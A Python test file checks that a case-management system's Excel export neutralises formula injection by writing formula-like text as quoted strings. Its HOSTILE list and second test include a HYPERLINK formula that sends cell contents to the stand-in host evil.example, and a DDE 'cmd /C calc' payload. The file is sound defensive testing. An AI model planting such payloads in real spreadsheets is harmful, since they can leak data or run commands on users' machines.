"""Text that a spreadsheet would run as a formula (=, +, -, @, tab, CR at the
start: OWASP's "CSV injection") is exported as text, shown as typed and never
evaluated."""

import io
import json

import pytest
from openpyxl import load_workbook

from changan.excel import write_workbook

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def read_back(data: bytes):
    return load_workbook(io.BytesIO(data)).active


def test_formula_like_text_is_a_string_cell_with_the_quote_prefix():
    out = io.BytesIO()
    write_workbook(out, "清单", ["内容", "数量"], [[text, 1] for text in HOSTILE] + [["普通文字", -5]])
    sheet = read_back(out.getvalue())
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    # Exactly as typed (XML itself reads a carriage return back as a line feed).
    assert [c.value for c in cells[:-1]] == [text.replace("\r", "\n") for text in HOSTILE]
    assert all(c.data_type == "s" and c.quotePrefix for c in cells[:-1])
    assert (cells[-1].value, cells[-1].quotePrefix) == ("普通文字", False)
    numbers = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert numbers[-1].value == -5 and numbers[-1].data_type == "n"  # numbers stay numbers


@pytest.mark.django_db
def test_a_case_title_that_is_a_formula_is_exported_as_text(small_city, client_for):
    client = client_for("city_dispatcher")
    title = '=HYPERLINK("http://evil.example","点这里")'
    body = {"title": title, "description": "@SUM(A1:A9)", "channel": "hotline", "area_code": "410611101001"}
    response = client.post("/api/v1/cases/", json.dumps(body), content_type="application/json")
    assert response.status_code == 201
    number = response.json()["number"]
    export = client.get("/cases/export.xlsx", {"q": number})
    sheet = read_back(b"".join(export.streaming_content))
    [row] = [r for r in sheet.iter_rows(min_row=2) if r[0].value == number]
    assert row[1].value == title and row[1].data_type == "s" and row[1].quotePrefix
